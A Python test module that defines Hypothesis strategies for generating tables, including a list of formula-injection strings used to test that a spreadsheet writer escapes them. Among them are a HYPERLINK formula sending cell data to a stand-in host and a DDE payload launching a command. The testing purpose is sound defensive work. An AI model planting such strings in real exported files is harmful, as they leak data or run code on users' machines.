"""Tables for properties: of every kind of column, with the strings that break spreadsheets."""

import datetime as dt

from hypothesis import strategies as st

from laws.records import AWKWARD
from tourdetable.writing.tables import Cell, Column, Kind, Table

HOSTILE = (
    "=1+1",
    "+36 1 234 5678",
    "-5",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    " =1",
    "\ufeff=1",
    "\u200b=1",
    '"=1',
    "'=1",
    "''=1",
    "'tis",
    "'",
    "a;=1+1",
    "a;'=1+1",
    'a;"=1+1',
    "a\n=1+1",
    "a\r\n'+1",
    "a\t@b",
    "a;\n=b",
    "x005F_",
    "_x0041_",
    "_x005F_x0041_",
    "_x000d_",
    "\x01\x1f\ufffe",
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "0012",
    "1e5",
    "TRUE",
    "#REF!",
    "2024-01-01",
    ",",
    '"',
    " blank ",
)
PIECES = st.sampled_from(("=", "+", "-", "@", "'", '"', ";", "\t", "\r", "\n", "\x00", " ", "a"))
TEXTS = (
    st.sampled_from((*HOSTILE, *AWKWARD))
    | st.lists(PIECES, min_size=1, max_size=7).map("".join)
    | st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)
)
NUMBERS = st.integers(-(10**15), 10**15) | st.floats(-1e300, 1e300).map(
    lambda one: float(f"{one:.15g}")
)
"""Of fifteen digits, which is all that Excel keeps of a number."""
DAYS = st.dates() | st.sampled_from((dt.date.min, dt.date(1900, 2, 28), dt.date.max))
CELLS: dict[Kind, st.SearchStrategy[Cell]] = {
    Kind.TEXT: st.none() | TEXTS,
    Kind.NUMBER: st.none() | NUMBERS,
    Kind.DAY: st.none() | DAYS,
}


@st.composite
def tables(draw: st.DrawFn) -> Table:
    """Tables of one to four columns and up to five rows."""
    kinds = draw(st.lists(st.sampled_from(Kind), min_size=1, max_size=4))
    columns = tuple(Column(draw(TEXTS), kind) for kind in kinds)
    row = st.tuples(*(CELLS[kind] for kind in kinds))
    return Table(draw(TEXTS), columns, tuple(draw(st.lists(row, max_size=5))))
